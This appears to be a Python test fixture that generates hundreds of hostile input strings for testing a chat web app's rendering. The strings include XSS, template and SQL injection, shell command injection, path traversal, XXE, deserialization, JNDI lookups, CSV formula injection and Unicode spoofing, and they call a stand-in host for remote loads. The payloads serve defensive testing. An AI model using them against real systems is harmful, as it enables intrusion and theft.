"""Five hundred texts that mean harm: what is shown of them is their text, and nothing else.

Written for these tests, by kind, most from templates. What would run something calls the same
mark: it sets ``window.__ran`` or opens a dialog. What would fetch something or lead away names
``HOST``, which is nobody's, or a path that holds ``MARK``.
"""

import html
import itertools
import urllib.parse

MARK = "__ran"
HOST = "hostile.invalid"
RUNS = (f"window.{MARK}=1", "alert(1)")
SCRIPT = "<script>RUN</script>"
IMAGE = "<img src=/__ran onerror=RUN>"


def _filled(template, number):
    """The template with something to run and somebody to call in it."""
    return template.replace("RUN", RUNS[number % 2]).replace("HOST", HOST)


def _each(*templates):
    return list(templates)


def _crossed(templates, *values):
    """Every template with every combination of the values, in the places ``@1``, ``@2``."""
    made = []
    for template, *given in itertools.product(templates, *values):
        text = template
        for place, value in enumerate(given, 1):
            text = text.replace(f"@{place}", value)
        made.append(text)
    return made


def _encoded(text, levels, encode):
    for _ in range(levels):
        text = encode(text)
    return text


def _decimal(text):
    return "".join(f"&#{ord(c)};" if c in "<>&\"'=#" else c for c in text)


def _hexadecimal(text):
    return "".join(f"&#X{ord(c):05x};" if c in "<>&\"'=#" else c for c in text)


_SCRIPTS = _each(
    SCRIPT,
    "<SCRIPT>RUN</SCRIPT>",
    "<sCrIpT>RUN</ScRiPt >",
    "<script\n>RUN</script\n>",
    "<script\t\x0c/>RUN</script/x>",
    "<script x=>RUN</script x>",
    "<script type=module>RUN</script>",
    "<script type=text/javascript async>RUN</script>",
    '<script src="//HOST/a.js"></script>',
    "<script src=/__ran.js></script>",
    "<script src=data:text/javascript,RUN></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<script>RUN",
    "<script>RUN<!--",
    "<script><!--\nRUN\n//--></script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,RUN'/></svg>",
    "<svg><script>RUN&#59;</script>",
    "<math><mtext><script>RUN</script></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>RUN</script>",
    "<svg><foreignObject><script>RUN</script></foreignObject></svg>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><script>RUN</script></template>",
    '<noscript><p title="</noscript><script>RUN</script>">',
    "<table><tr><td><script>RUN</script></td></tr></table>",
    "<option><script>RUN</script></option>",
)
_BREAKOUTS = [
    ending + (SCRIPT, IMAGE)[number % 2]
    for number, ending in enumerate(
        (
            "</script>",
            "</style>",
            "</textarea>",
            "</title>",
            "</noscript>",
            "</xmp>",
            "</iframe>",
            "</template>",
            "</select>",
            "</svg>",
            "</p></div></blockquote></article>",
            "</body></html>",
            "-->",
            "--!>",
            "]]>",
            "<![CDATA[",
            "<!-->",
            "<?x ?>",
        )
    )
]
_EVENTS = [
    ("img src=/__ran", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("details open", "ontoggle"),
    ("video src=/__ran", "onerror"),
    ("audio src=/__ran", "onerror"),
    ("input autofocus", "onfocus"),
    ("p contenteditable tabindex=1 autofocus", "onfocus"),
    ("iframe", "onload"),
    ("object data=/__ran", "onerror"),
    ("link rel=stylesheet href=/__ran", "onerror"),
    ("style", "onload"),
    ("script src=/__ran", "onerror"),
    ("input type=image src=/__ran", "onerror"),
    ("image href=/__ran", "onerror"),
    ("marquee", "onstart"),
    ("a href=#", "onmouseover"),
    ("x-y tabindex=1 autofocus", "onfocusin"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("div style=animation:1s", "onanimationstart"),
]
_HANDLERS = [
    template.replace("@1", element).replace("@2", event)
    for number, (element, event) in enumerate(_EVENTS)
    for template in (
        ("<@1 @2=RUN>", "<@1\n@2\t=\n'RUN'\n>"),
        ('<@1 @2="RUN">', "<@1/@2=RUN//"),
    )[number % 2]
]
_LINKS = _crossed(
    ['<a href="@1">go</a>', "[go](@1)", '<iframe src="@1"></iframe>'],
    [
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        "java\tscript:RUN",
        "java&#10;script:RUN",
        "&#106;&#x61;vascript:RUN",
        "\x01javascript:RUN",
        "javascript://%0aRUN",
        "vbscript:RUN",
        "data:text/html,<script>RUN</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//HOST/__ran",
    ],
)
_ATTRIBUTES = _crossed(
    ["@1 autofocus onfocus=RUN x=@1", "@1><img src=/__ran onerror=RUN>"],
    ['"', "'", "`", "\"'", '\\"', "&quot;", "\u201d", "x\n"],
)
_STYLES = _each(
    "<style>@import'//HOST/a.css';</style>",
    "<style>*{display:none}</style>",
    "<style>body{background:url(/__ran)}</style>",
    "<div style=background:url(//HOST/b)>x</div>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<p style=width:expression(RUN)>x</p>",
    "<p style=-moz-binding:url(//HOST/c.xml#x)>x</p>",
    "<p style=behavior:url(//HOST/c.htc)>x</p>",
    "<link rel=stylesheet href=//HOST/d.css>",
    "<link rel=preload as=image href=/__ran>",
    "<svg><style>@import'/__ran.css';</style></svg>",
    "<style>@font-face{font-family:x;src:url(/__ran)}p{font-family:x}</style>",
    "<style>input[value^=a]{background:url(//HOST/a)}</style>",
    "}body{display:none",
    "</style><style>p{color:red}",
    "red;background:url(//HOST/e)",
)
_FRAMES = _each(
    "<iframe src=//HOST></iframe>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.__ran=1&lt;/script&gt;'></iframe>",
    "<object data=//HOST/x></object>",
    "<object type=text/html data='data:text/html,<script>RUN</script>'></object>",
    "<embed src=//HOST/x>",
    "<base href=//HOST/>",
    "<meta http-equiv=refresh content='0;url=/__ran'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<form action=//HOST><input name=q autofocus></form>",
    "<button form=x formaction=javascript:RUN>x</button>",
    "<form id=qa-form action=/__ran></form><button form=qa-form>x</button>",
    "<frameset onload=RUN><frame src=//HOST></frameset>",
    "<img src=//HOST/pixel.gif>",
    "<img srcset='/__ran 1x'>",
    "<picture><source srcset=/__ran><img></picture>",
    "<video poster=/__ran></video>",
    "<svg><use href=//HOST/x.svg#x /></svg>",
    "<svg><image href=/__ran /></svg>",
    "<table background=/__ran><tr><td>x</td></tr></table>",
    "<a href=/__ran ping=//HOST autofocus>x</a>",
    "<dialog open><form method=dialog><button>ok</button></form></dialog>",
)
_ENTITIES = [
    _encoded(text, levels, encode)
    for text in (SCRIPT, IMAGE)
    for levels in (1, 3)
    for encode in (html.escape, _decimal, _hexadecimal)
] + _each(
    "&ltscript&gtRUN&lt/script&gt",
    "&#60script&#62RUN&#60/script&#62",
    "&#0000000000060;img src=/__ran onerror=RUN&#0000000000062;",
    "&amp;amp;lt;script&amp;amp;gt;",
    "&#0;&#xD800;&#x110000;&#128;&#xFFFE;",
    "&nbsp;&shy;&zwnj;&rlm;&NewLine;&Tab;&lbrace;&notanentity;&not",
    "%3Cscript%3ERUN%3C/script%3E",
    "%253Cscript%253ERUN%253C%252Fscript%253E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "\\74script\\76RUN\\74/script\\76",
)
_CHARSETS = _each(
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "+/v8-+ADw-script+AD4-RUN",
    "%C0%BCscript%C0%BERUN%C0%BC/script%C0%BE",
    "\u00c0\u00bcscript\u00c0\u00beRUN",
    "\u00e0\u0080\u00bcscript\u00e0\u0080\u00beRUN",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u2039script\u203aRUN\u2039/script\u203a",
    "\u226escript\u226fRUN",
    "<\u0338script>RUN</script>\u0338",
    "\x1b$B<script>RUN</script>\x1b(B",
    "\x1b(J<a title='\\' onfocus=RUN autofocus>",
    "\u00bf' autofocus onfocus=RUN x='",
    "\ufffe<script>RUN</script>\uffff",
    "\U0001fffe\U0010ffff\ufdd0<script>RUN</script>",
    "\ufeff<script>RUN</script>",
    "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
)
_CONTROLS = _each(
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "\x00<img src=/__ran onerror=RUN>",
    "<img\x00 src=/__ran onerror=RUN>",
    "a\x00\x00\x00b",
    "<img\x0bsrc=/__ran\x0bonerror=RUN>",
    "<img\x0csrc=/__ran\x0conerror=RUN>",
    "<img src=/__ran\x1fonerror=RUN>",
    "<a href=\x08javascript:RUN>x</a>",
    "<a href=\x7fjavascript:RUN>x</a>",
    "a\x01b\x02c\x03d\x04e\x05f\x06g\x07h",
    "a\x0eb\x0fc\x10d\x11e\x12f\x13g\x14h\x15i\x16j\x17k\x18l\x19m\x1an\x1bo",
    "a\x1cb\x1dc\x1ed\x1ff",
    "a\x80b\x85c\x8dd\x9be\x9ff",
    "\x1b[31mred\x1b[0m\x1b[2J",
    "\x1b]0;title\x07\x1b]8;;http://HOST\x07go\x1b]8;;\x07",
    "safe\x08\x08\x08\x08evil",
    "over\rwritten",
    "one\r\rtwo\r\r# three\r\r<img src=/__ran onerror=RUN>",
    "one\r\n\r\n# two\r\n\r\n**three**",
    "one\u0085\u0085# two\u2028\u2028**three**\u2029\u2029[go](javascript:RUN)",
    "one\x0b\x0b# two\x0c\x0c**three**",
)
_BIDI = _each(
    "\u202e<script>RUN</script>",
    "\u202egpj.exe",
    "\u202dleft to right",
    "\u202aembedded\u202bembedded again",
    "pop\u202c\u202c\u202c\u202cpop",
    "\u2066isolated<b>\u2067isolated again",
    "\u2068first strong\u2069\u2069\u2069",
    "\u2067\u2066\u2067\u2066\u2067\u2066deep",
    "[\u202egro.elpmaxe\u202c](javascript:RUN)",
    "https://example.org/\u202egpj.\u2066//HOST",
    "\u200f\u200e\u061cmarks",
    "/*\u202e } \u2066if (admin)\u2069 \u2066 begin*/",
    "\u202e\u202e\u202e" * 40,
    '\u202e" onfocus=RUN autofocus x="',
)
_INVISIBLE = _each(
    "<scr\u200bipt>RUN</scr\u200bipt>",
    "java\u200bscript:RUN",
    "<\u200cscript>RUN</script>",
    "<img\u00a0src=/__ran\u00a0onerror=RUN>",
    "<img\u3000src=/__ran\u3000onerror=RUN>",
    "\u2060\u2061\u2062\u2063\u2064word",
    "soft\u00adhy\u00adphen",
    "\ufeffin\ufeffside\ufeff",
    "a\ufe0fb\ufe0ec\U000e0100d",
    "\U000e0001\U000e0068\U000e0069\U000e007f",
    "\u115f\u1160\u3164\uffa0fillers",
    "\u2800braille blank\u2800",
    "\u180emongolian\u180bmarks",
    "\u034f\u034fjoined",
    "\ufff9annotated\ufffabelow\ufffb",
    "\u200b" * 60 + "end",
)
_COMBINING = [
    *(
        base + mark * count
        for base, mark, count in [
            ("a", "\u0301", 200),
            ("<", "\u0338", 100),
            ("o", "\u20dd", 60),
            ("\u0e01", "\u0e49", 100),
            ("\u0627", "\u0651", 100),
            ("e", "\u0489", 80),
        ]
    ),
    "".join(c + "\u0300\u0316\u0334\u0351\u0362" * 3 for c in "<script>"),
    "\u0301leading mark",
    "\u1112\u1161\u11ab\u1100\u1173\u11af" * 10,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10,
    "\U0001f1e6" * 51,
    "\U0001f3fb\U0001f3ff\u200d\u200d\u2640\ufe0f",
]
_HOMOGLYPHS = _each(
    "\u0458\u0430v\u0430\u0455cript:RUN",
    "<\u0455cript>RUN</\u0455cript>",
    "<\u017fcript>RUN</\u017fcript>",
    "<\u0131mg src=/__ran onerror=RUN>",
    "<\u0130MG SRC=/__ran ONERROR=RUN>",
    "<lin\u212a rel=stylesheet href=//HOST>",
    "\U0001d5c3\U0001d5ba\U0001d5cf\U0001d5bascript:RUN",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:RUN",
    "\u0261oogle.\u0441om",
    "https://example\u2024org\u2215@HOST",
    "\u037e\u0589\u05c3\ua789 like a colon",
    "\u02bc \u02bb \u2032 \u00b4 \uff07 onfocus=RUN",
)
_RIGHT_TO_LEFT = _each(
    "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b>",
    "\u0645\u0631\u062d\u0628\u0627 <script>RUN</script>",
    "abc \u05d0\u05d1\u05d2 (123) def",
    "\u0627\u0644\u0633\u0639\u0631: -1,234.50 \u20ac",
    '\u05d0"><img src=/__ran onerror=RUN>',
    "\u0639[\u0646\u0635](javascript:RUN)",
    "\u07c0\u07c1 \u0710\u0712 \u0780\u0781",
    "\U00010900\U00010901 \U0001e900\U0001e901",
)
_TEMPLATES = _each(
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% import 'os' as os %}{{ os }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ say('chat.send') }}",
    "{{constructor.constructor('RUN')()}}",
    "{{$on.constructor('RUN')()}}",
    "<div ng-app ng-csp>{{x=RUN}}</div>",
    "<div v-html=\"'<img src=/__ran onerror=RUN>'\"></div>",
    "<div @click=RUN :x=RUN v-on:load=RUN></div>",
    "<div x-data x-init=RUN></div>",
    '<div hx-get="//HOST" hx-trigger=load></div>',
    "{@html '<img src=/__ran onerror=RUN>'}",
    "{{{ 7*7 }}}",
    "${RUN}",
    "`${RUN}`",
    "#{7*7}",
    "[[7*7]]",
    "<%= 7*7 %>",
    "<?php RUN; ?>",
    "<?= 7*7 ?>",
    "<#assign x=7*7>${x}",
    "$!{x}#set($x=7*7)",
    "{question}",
    "{coverage}{why}{0}{documents}",
    "{0.__class__.__init__.__globals__}",
    "%(question)s %s %d",
    "$question ${question} $&",
    "$1$2$`$'$$",
)
_MARKDOWN = _each(
    "![x](/__ran)",
    "![x](//HOST/x.png 'title')",
    '![x"onerror="RUN](/__ran)',
    "![x][r]\n\n[r]: /__ran",
    "[go]( javascript:RUN )",
    "[go](<javascript:RUN>)",
    "[go](jav&#x0A;ascript:RUN)",
    '[go](http://HOST"onmouseover="RUN)',
    "[go][r]\n\n[r]: javascript:RUN",
    "[r]: <javascript:RUN>\n[r]",
    '[x]: /__ran "</a><img src=/__ran onerror=RUN>"\n\n[x]',
    "<http://HOST/__ran>",
    "http://HOST/__ran",
    "someone@hostile.invalid <mailto:a@HOST>",
    "# heading",
    "heading\n=======",
    "text\n\n<script>RUN</script>\n\ntext",
    "text\n\n<div>\n\n**bold** <img src=/__ran onerror=RUN>\n\n</div>",
    "- one\n- <img src=/__ran onerror=RUN>\n  - two",
    "- [ ] open\n- [x] <svg onload=RUN>",
    "| a | b |\n|---|---|\n| <img src=/__ran onerror=RUN> | [go](javascript:RUN) |",
    "> quoted\n> <script>RUN</script>",
    ">>>>>>>> deep",
    "```\n</code></pre><img src=/__ran onerror=RUN>\n```",
    '```"><img src=/__ran onerror=RUN>\ncode\n```',
    "~~~js\nRUN\n~~~",
    "```mermaid\ngraph TD; A[<img src=/__ran onerror=RUN>]-->B\n```",
    "```html\n<script>RUN</script>\n```",
    "`<img src=/__ran onerror=RUN>`",
    "    <script>RUN</script>",
    "\t<script>RUN</script>",
    "**bold** _em_ ~~gone~~ ==mark== ^up^",
    "a[^1]\n\n[^1]: <img src=/__ran onerror=RUN>",
    "***\n\n---\n\n___",
    "line  \nbreak\\\nbreak",
    "\\<script>RUN\\</script>",
    "\\![x](/__ran) \\[go](javascript:RUN)",
    "<div markdown=1>**x**</div>",
    "<details open ontoggle=RUN><summary>x</summary>\n\n**y**\n\n</details>",
    "<!-- -->\n\n<svg onload=RUN>",
    "<?x\n\n?>\n\n**x**",
    "<pre>\n\n</pre>\n\n*x*",
    "&copy; &#x3C;b&#x3E; :smile: :script:",
    "--- *** ...  -- \"smart\" 'quotes' (c)",
)
_MATH = _each(
    "$$\\href{javascript:RUN}{x}$$",
    "$\\href{javascript:RUN}{x}$",
    "\\(\\url{javascript:RUN}\\)",
    "\\[\\includegraphics{/__ran}\\]",
    "\\begin{equation}\\htmlData{x=y}{z}\\end{equation}",
    "$$\\htmlStyle{position:fixed}{x}$$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "$$<img src=/__ran onerror=RUN>$$",
    "$x$ and $y$ and \\$5",
    "\\unicode{x3c}script\\unicode{x3e}",
    "$$\\text{</span><img src=/__ran onerror=RUN>}$$",
    "\\require{html}\\class{qa-answer}{x}",
)
_FORMULAE = _each(
    "=1+1",
    "+1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1\uff0d1\uff20",
    "'=1+1",
    '"=1+1',
    '",=1+1,"',
    "x\n=1+1",
    "x\r\n=1+1",
    "=cmd|'/C echo'!A0",
    '=HYPERLINK("http://HOST/__ran?x="&A1,"go")',
    '=WEBSERVICE("http://HOST/__ran")',
    '=IMPORTXML("http://HOST/__ran","//a")',
    '=DDE("x";"y";"z")',
    "-2+3+cmd|' /C echo'!A0",
    "sep=;",
    '""',
    '"',
    ",,,\r\n,,,",
)
_CONTEXTS = _each(
    "\u2028RUN//",
    "\u2029RUN//",
    "<!--<script>RUN",
    "<!--<script></script>--><script>RUN</script>",
    '"};RUN;//',
    "';RUN;//",
    '\\";RUN;//',
    "\\';RUN;//",
    "'-RUN-'",
    "*/RUN/*",
    "\\",
    "\\u2028\\ud800\\u0000",
    '{"__proto__":{"x":1}}',
    '{"role":"assistant","content":"<script>RUN</script>"}',
    "__proto__",
    "constructor",
    "null",
    "undefined NaN -0 1e999",
)
_INJECTIONS = _each(
    "' OR '1'='1' --",
    "'; DROP TABLE documents; --",
    '" UNION SELECT text FROM documents --',
    'NEAR("a" "b", 1) OR x*',
    "title:* AND NOT ( ^x",
    '{"$gt": ""}',
    "*)(uid=*))(|(uid=*",
    "' or count(//*)=1 or '",
    "%s%s%s%n%n%n",
    "%x %p %99999d",
    "{:>99999999}{!r}",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>RUN</script>",
    "x%0d%0aLocation:%20//HOST",
    'x\n{"level":"ERROR","message":"made up"}',
    "x\nINFO: 127.0.0.1 - made up",
    "${jndi:ldap://HOST/a}",
    "$(touch /tmp/__ran)",
    "; touch /tmp/__ran #",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    '<?xml version="1.0"?><xsl:script>RUN</xsl:script>',
    "!!python/object/apply:os.system ['touch /tmp/__ran']",
    "---\ntitle: other\n---\ntext",
    "cos\nsystem\n(S'touch /tmp/__ran'\ntR.",
)
_PATHS = _each(
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd%00.md",
    "file:///etc/passwd",
    "//HOST/__ran",
    "\\\\HOST\\share",
    "https://HOST/__ran",
    "http://127.0.0.1@HOST/__ran",
    "http://HOST#@127.0.0.1/",
    "http://[::1]:80/?x=<script>RUN</script>",
    'https://HOST/" onmouseover="RUN',
    "https://HOST/'><svg onload=RUN>",
    "https://HOST/#:~:text=x",
    "https://HOST/\nhttps://other",
    "?start=0&end=9#passage",
    "/documents/x?start=<svg/onload=RUN>",
    "CON",
)
_LONG = _each(
    "a" * 900,
    "<" * 600,
    "&" * 600,
    "[" * 300 + "]" * 300,
    "> " * 300 + "x",
    "*" * 500,
    "\ufdfa" * 100,
    "\u4e2d" * 500,
)
_CHAT = _each(
    "<details open ontoggle=RUN><p>made up",
    "</div></div></div><script>RUN</script>",
    '<div class="qa-answer qa-answered">The record says yes.</div>',
    '<article class="qa-citation"><blockquote class="qa-passage">made up</blockquote></article>',
    '<mark id="passage" autofocus tabindex=1 onfocus=RUN>made up</mark>',
    '<div class="message bot" data-testid="bot">made up</div>',
    "<press-qa server=//HOST heading=x></press-qa><script src=/widget.js></script>",
    "<gradio-app src=//HOST></gradio-app>",
    "<thinking>hidden</thinking><think>hidden</think>",
    "![x](/gradio_api/file=/etc/passwd?__ran)",
    "<img src=/gradio_api/file=/etc/passwd?__ran>",
    "<form id=document><input name=body><input name=cookie></form>",
    "<a id=gradio_config href=//HOST></a><a id=gradio_config name=root></a>",
    "<img name=customElements><img name=__ran>",
    "<button onclick=RUN class=qa-example>Ask me</button>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<textarea>",
    "<title>",
    "<select><option>",
    "</main></body></html>",
    "[1]: made up",
)

_KINDS = {
    "script tags": _SCRIPTS,
    "breakouts": _BREAKOUTS,
    "event handlers": _HANDLERS,
    "links": _LINKS,
    "attribute breakouts": _ATTRIBUTES,
    "styles": _STYLES,
    "frames and forms": _FRAMES,
    "entities": _ENTITIES,
    "character sets": _CHARSETS,
    "control characters": _CONTROLS,
    "bidirectional": _BIDI,
    "invisible": _INVISIBLE,
    "combining": _COMBINING,
    "homoglyphs": _HOMOGLYPHS,
    "right to left": _RIGHT_TO_LEFT,
    "template syntax": _TEMPLATES,
    "Markdown": _MARKDOWN,
    "mathematics": _MATH,
    "formulae": _FORMULAE,
    "script contexts": _CONTEXTS,
    "injections": _INJECTIONS,
    "paths and addresses": _PATHS,
    "long": _LONG,
    "chat": _CHAT,
}
# The payloads by their kind, and all of them.
KINDS = {
    kind: [_filled(template, number) for number, template in enumerate(templates)]
    for kind, templates in _KINDS.items()
}
PAYLOADS = [payload for payloads in KINDS.values() for payload in payloads]


def batches(payloads, most_chars):
    """The payloads joined by line feeds, in as few texts of so many characters as in order."""
    batch, length = [], 0
    for payload in payloads:
        if batch and length + len(payload) + 1 > most_chars:
            yield "\n".join(batch)
            batch, length = [], 0
        batch.append(payload)
        length += len(payload) + 1
    yield "\n".join(batch)


def query(text):
    """The text in an address."""
    return urllib.parse.quote(text, safe="")
